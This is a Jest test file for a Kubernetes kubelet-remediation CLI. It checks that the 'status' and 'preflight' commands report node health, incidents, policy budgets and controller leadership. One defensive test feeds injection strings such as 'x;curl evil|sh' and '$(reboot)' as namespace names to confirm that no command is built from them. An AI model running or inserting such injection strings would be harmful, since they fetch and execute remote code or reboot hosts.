import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { HEALTHS, INCIDENTS, LEASES, NODES, PODS, POLICIES } from '../../../src/api/resources.ts';
import { LEADER_LEASE } from '../../../src/api/v1alpha1/words/names.ts';
import { toMicroTime } from '../../../src/core/time/timestamp.ts';
import type { HealthStatus } from '../../../src/api/v1alpha1/kinds/health.ts';
import type { KubeObject, Manifest, Resource } from '../../../src/ports/cluster.ts';
import {
  aHealth,
  anIncident,
  aNode,
  aPlan,
  aPolicy,
  at,
  T0,
  type NodeOptions,
} from '../../support/builders/objects.ts';
import { quickClock } from '../../support/ui/quick-clock.ts';
import { NOW, startBench, type Bench, type Ran } from './cli-harness.ts';

let bench: Bench;
beforeEach(async () => {
  bench = await startBench(10);
});
afterEach(async () => {
  await bench.server.close();
});

function seed(resource: Resource, object: KubeObject): void {
  bench.server.seed(resource, JSON.parse(JSON.stringify(object)) as Manifest);
}

const TRUE = (type: string): NonNullable<HealthStatus['conditions']>[number] => ({
  type,
  status: 'True',
  reason: 'Fine',
  message: 'fine',
  lastTransitionTime: at(0),
});
const FINE: Partial<HealthStatus> = {
  kubelet: { unit: 'kubelet.service', restart: 'always', program: { state: 'Running', since: at(0) } },
  conditions: ['LogReadable', 'RuntimeReachable', 'SpoolWritable', 'StacksReadable', 'Recoverable'].map(TRUE),
};

/** A node, and an agent that has reported a minute ago. */
function seedNode(name: string, node: NodeOptions = {}, status: Partial<HealthStatus> = {}): void {
  seed(NODES, aNode({ ...node, name }));
  const health = aHealth({ node: name, reportedAt: NOW - T0 - 60_000, status: { ...FINE, ...status } });
  seed(HEALTHS, { ...health, spec: { ...health.spec, policy: 'default', mode: 'Remediate' } } as typeof health);
}

describe('status', () => {
  test('says a healthy fleet in one line beside its policies, however big', async () => {
    seed(POLICIES, aPolicy());
    for (let n = 0; n < 700; n++) seedNode(`node-${String(n)}`);
    const { code, out } = await bench.run('status');
    expect(code).toBe(0);
    expect(out).toContain('700 nodes: 700 healthy, 0 not; 700 would be recovered; 0 open incidents\n');
    expect(out).toMatch(/^default +Remediate +700 +0 \(at most 350\) +closed +0 of 1 +1 /m);
    expect(out.split('\n').length).toBeLessThan(8);
  });

  test('names each node that is not healthy, why, and what comes next', async () => {
    seed(POLICIES, aPolicy());
    seedNode('well-1');
    seedNode('well-2');
    seedNode('well-3');
    seedNode('stuck', {}, { pleg: { state: 'Unhealthy', reason: 'r', message: 'm', since: at(0), episodes: [] } });
    seedNode('cordoned', { unschedulable: true, cordonedBy: 'kubectl', ready: 'False' });
    seedNode('frozen', {}, { kubelet: { program: { state: 'Frozen', since: at(0) } } });
    seed(NODES, aNode({ name: 'bare' }));
    const { out } = await bench.run('status');
    expect(out).toContain('7 nodes: 3 healthy, 4 not');
    expect(out).toMatch(/^stuck +PLEG Unhealthy +10m +default +an incident opens/m);
    expect(out).toMatch(/^cordoned +NotReady +70m +default +no restart: node is cordoned by someone else/m);
    expect(out).toMatch(/^frozen +kubelet Frozen +10m /m);
    expect(out).toMatch(/^bare +no agent +default +no restart: its agent does not report/m);
    expect(out).toMatch(/^1 +its agent does not report +bare$/m);
  });

  test('says of an open incident what it waits for', async () => {
    seed(POLICIES, aPolicy());
    seedNode('node-a', { ready: 'False' });
    const waits = 'budget: 1 of 1 recoveries in flight (node-b-x)';
    const type = { type: 'Complete', status: 'False', reason: 'TooManyAtOnce' } as const;
    const status = {
      state: 'Waiting: budget',
      conditions: [{ ...type, message: waits, lastTransitionTime: at(0) }],
    };
    seed(INCIDENTS, anIncident({ status }));
    seed(
      INCIDENTS,
      anIncident({ name: 'node-a-old', status: { outcome: 'Recovered', conditions: [TRUE('Complete')] } }),
    );
    const { out } = await bench.run('status');
    expect(out).toMatch(/^node-a-x7k2q +node-a +PLEGUnhealthy +10m +Waiting: budget: budget: 1 of 1 recoveries/m);
    expect(out).toMatch(/^node-a +NotReady +70m +default +node-a-x7k2q: Waiting: budget$/m);
    expect(out).not.toContain('node-a-old');
    expect((await bench.run('status', '-o', 'name')).out).toBe(
      'node/node-a\nkubeletincident.kubelet-medic.io/node-a-x7k2q\n',
    );
  });

  test('tells an open breaker, and that nothing would be restarted', async () => {
    seed(POLICIES, aPolicy({ budget: { maxUnhealthy: 1 } }));
    for (const name of ['a', 'b', 'c']) seedNode(name, { ready: 'Unknown' });
    const { out } = await bench.run('status');
    expect(out).toMatch(/^default +Remediate +3 +3 \(at most 1\) +open +0 of 1 +0 /m);
    expect(out).toMatch(/^3 +3 of its 3 nodes are unhealthy, more than 1 +a, b, c$/m);
  });

  test('does not take the word of an agent that is silent, and shows a storm in a screen', async () => {
    seed(POLICIES, aPolicy());
    for (let n = 0; n < 40; n++) {
      const name = `node-${String(n)}`;
      seed(NODES, aNode({ name }));
      seed(HEALTHS, aHealth({ node: name, reportedAt: NOW - T0 - 500_000, status: FINE }));
    }
    const { out } = await bench.run('status');
    expect(out).toMatch(/^node-0 +agent silent +8m20s/m);
    expect(out).toContain('and 28 more: -o wide shows all');
    expect(out.split('\n').length).toBeLessThan(30);
    expect((await bench.run('status', '-o', 'wide')).out).toContain('node-39 ');
  });

  test('prints for programs, and says what could not be read', async () => {
    seedNode('node-a');
    seed(INCIDENTS, anIncident({ plan: aPlan() }));
    bench.server.seed(NODES, { metadata: { name: 'odd' }, status: { conditions: 'none' } });
    const { out, err, code } = await bench.run('status', '-o', 'json');
    expect(code).toBe(0);
    expect(err).toContain('not shown: node/odd: ');
    expect(JSON.parse(out)).toMatchObject({
      kind: 'FleetStatus',
      nodes: 1,
      healthy: 1,
      wouldNotRecover: [{ why: 'no policy rules it', nodes: ['node-a'] }],
      incidents: [{ name: 'node-a-x7k2q' }],
    });
  });
});

describe('preflight', () => {
  test('passes a node that lacks nothing', async () => {
    seed(POLICIES, aPolicy());
    seedNode(
      'node-a',
      {},
      { runtime: { unit: 'containerd.service', killMode: 'process', probe: { state: 'Answered' } } },
    );
    const { code, out } = await bench.run('preflight', 'node-a');
    expect(out).toMatch(/^node-a: would be recovered\n/);
    expect(out).not.toMatch(/^ {2}[!✖]/m);
    expect(out).toContain('✔ kubelet  kubelet.service, Restart=always');
    expect(code).toBe(0);
  });

  test.each<[string, NodeOptions, Partial<HealthStatus>, string]>([
    [
      'excluded',
      { annotations: { 'kubelet-medic.io/exclude': 'true' } },
      {},
      'the node is annotated kubelet-medic.io/exclude=true',
    ],
    [
      'going',
      { taints: [{ key: 'ToBeDeletedByClusterAutoscaler', effect: 'NoSchedule' }] },
      {},
      'cluster-autoscaler is removing',
    ],
    [
      'control plane',
      { labels: { 'node-role.kubernetes.io/control-plane': '' } },
      {},
      'control plane nodes are skipped',
    ],
    [
      'without Restart=',
      {},
      {
        conditions: [
          {
            ...TRUE('Recoverable'),
            status: 'False',
            reason: 'NoRestartPolicy',
            message: 'kubelet unit has no Restart=',
          },
        ],
      },
      '✖ kubelet  kubelet unit has no Restart=',
    ],
    [
      'whose runtime is masked',
      {},
      {
        conditions: [
          { ...TRUE('Recoverable'), status: 'False', reason: 'RuntimeMasked', message: 'containerd.service is masked' },
        ],
      },
      '✖ runtime  containerd.service is masked',
    ],
    [
      'whose agent does not say',
      {},
      { conditions: [] },
      '✖ kubelet  the agent does not say whether its unit can be restarted',
    ],
    [
      'whose disk is full',
      {},
      { conditions: [TRUE('Recoverable'), { ...TRUE('SpoolWritable'), status: 'False', message: 'ENOSPC' }] },
      '✖ disk     ENOSPC',
    ],
  ])('fails a node that is %s', async (_, node, status, words) => {
    seed(POLICIES, aPolicy());
    seedNode('node-a', node, status);
    const { code, out } = await bench.run('preflight', 'node-a');
    expect(code).toBe(5);
    expect(out).toContain('node-a: would not be recovered\n');
    expect(out).toContain(words);
  });

  test('warns of what harms without hindering; --strict fails on it', async () => {
    seed(POLICIES, aPolicy());
    const runtime = { unit: 'crio.service', killMode: 'control-group', probe: { state: 'Answered' } } as const;
    seedNode('node-a', {}, { runtime, kubelet: { unit: 'kubelet.service', watchdog: '30s' } });
    const { code, out } = await bench.run('preflight', 'node-a');
    expect(code).toBe(0);
    expect(out).toContain(
      '! runtime  crio.service, KillMode=control-group: a restart of the runtime may end its containers',
    );
    expect(out).toContain('! kubelet  kubelet.service, WatchdogSec=30s: ');
    expect((await bench.run('preflight', 'node-a', '--strict')).code).toBe(5);
  });

  test('warns of pods of that node that a restart harms, and of pods that may not be listed', async () => {
    seed(POLICIES, aPolicy());
    seedNode('node-a');
    seedNode('node-b');
    const plugin = { hostPath: { path: '/var/lib/kubelet/device-plugins' } };
    const metadata = { name: 'gpu', namespace: 'gpus' };
    bench.server.seed(PODS, { metadata, spec: { nodeName: 'node-a', volumes: [plugin] } });
    const words = '! pods     a restart could harm pods of the node (gpus/gpu: it registers devices';
    for (const argv of [['node-a'], ['node-a', 'node-b']]) {
      const { out, code } = await bench.run('preflight', ...argv);
      expect(code).toBe(0);
      expect(out.split(words)).toHaveLength(2);
    }
    expect((await bench.run('preflight', 'node-b')).out).toContain('✔ pods     0, none of which');
    expect((await bench.run('preflight', 'node-a', '--no-pods')).out).not.toContain('pods  ');
    bench.server.deny(({ resource }) => resource === PODS.plural);
    expect((await bench.run('preflight', 'node-b')).out).toContain('! pods     not known: you may not list pods');
  });

  test('of all nodes tells what they lack in common; nothing seen is no pass', async () => {
    expect((await bench.run('preflight')).code).toBe(5);
    seed(POLICIES, aPolicy({ mode: 'Observe' }));
    for (let n = 0; n < 9; n++) seedNode(`node-${String(n)}`);
    seed(NODES, aNode({ name: 'bare' }));
    seed(NODES, aNode({ name: 'bare-too' }));
    const { code, out } = await bench.run('preflight');
    expect(code).toBe(5);
    expect(out).toMatch(/^0 of 11 nodes would be recovered$/m);
    expect(out).toMatch(/^✖ +policy +11 +default: mode Observe +.*, and 7 more$/m);
    expect(out).toMatch(/^✖ +agent +2 +the agent on NODE has never reported +bare, bare-too$/m);
    expect((await bench.run('preflight', '-o', 'name')).out.split('\n')).toHaveLength(12);
    expect((await bench.run('preflight', 'nope')).err).toContain('there is no node nope');
  });
});

describe('whether a controller leads', () => {
  const ref = { name: LEADER_LEASE, namespace: 'kubelet-medic' };
  const holds = async (holder: string, agoMs: number): Promise<void> => {
    const renewTime = toMicroTime(NOW - agoMs);
    const spec = { holderIdentity: holder, leaseDurationSeconds: 30, renewTime, acquireTime: renewTime };
    await bench.cluster.apply(LEASES, { metadata: ref, spec }, { manager: 'test', force: true });
  };

  /** @param change comes while it waits for its second look at the lease. */
  const statusWith = async (change: () => Promise<void>): Promise<Ran> => {
    let changes = 0;
    const sleep = async (): Promise<void> => {
      changes++;
      await change();
    };
    const clock = { ...quickClock(10), now: () => NOW, sleep };
    const ran = await bench.runWith({ clock }, 'status');
    expect(changes).toBe(1);
    return ran;
  };

  beforeEach(() => {
    seed(POLICIES, aPolicy());
    seedNode('node-a');
  });

  test.each([
    ['that gave its lease back', '', 240_000, 'no controller has led for 4m'],
    ['that has not renewed', 'pod-1', 3 * 3_600_000, 'no controller has led for 3h'],
  ])('is told of one %s', async (_what, holder, agoMs, words) => {
    await holds(holder, agoMs);
    const { out, code } = await bench.run('preflight', 'node-a');
    expect(out).toContain(`✖ leader   ${words}: kubectl get pods -n kubelet-medic`);
    expect(code).toBe(5);
    expect((await bench.run('status')).out.split('\n')[0]).toContain(words);
  });

  test('is told where none ever led, and in the namespace of the agents', async () => {
    await bench.cluster.delete(LEASES, ref);
    expect((await bench.run('status')).out).toMatch(/^no controller has led: kubectl get pods -n kubelet-medic /);
    seedNode('node-b', {}, { agent: { version: '1', startedAt: at(0), reportedAt: at(0), namespace: 'other' } });
    expect((await bench.run('status')).out).toMatch(/^no controller has led: kubectl get pods -n other /);
  });

  test('is not judged by the clock of the leader alone', async () => {
    await holds('pod-1', 3_600_000);
    const { out } = await statusWith(() => holds('pod-1', 3_598_000));
    expect(out).not.toContain('no controller has led');
    expect(JSON.parse((await bench.run('status', '-o', 'json')).out)).toHaveProperty('noLeader');
  });

  test('who gives the lease back between two looks does not lead', async () => {
    await holds('pod-1', 3_600_000);
    const { out } = await statusWith(() => holds('', 3_600_000));
    expect(out).toMatch(/^no controller has led for 60m|^no controller has led for 1h/);
  });

  test.each(['x;curl evil|sh', '$(reboot)', 'x\ny', '-n', 'Ä', 'a.b'])(
    'no command is made of %j, which is no name of a namespace',
    async (namespace) => {
      seedNode('node-a', {}, { agent: { version: '1', startedAt: at(0), reportedAt: at(0), namespace } });
      const { out } = await bench.run('status');
      expect(out.split('\n')[0]).toMatch(/^no controller has led$/);
    },
  );

  test('is not known to whoever may not look', async () => {
    bench.server.deny(({ resource }) => resource === LEASES.plural);
    expect((await bench.run('status')).out).toMatch(/^it is not known whether a controller leads: /);
    const { out, code } = await bench.run('preflight', 'node-a');
    expect([code, out]).toEqual([0, expect.stringContaining('! leader   it is not known')]);
  });
});
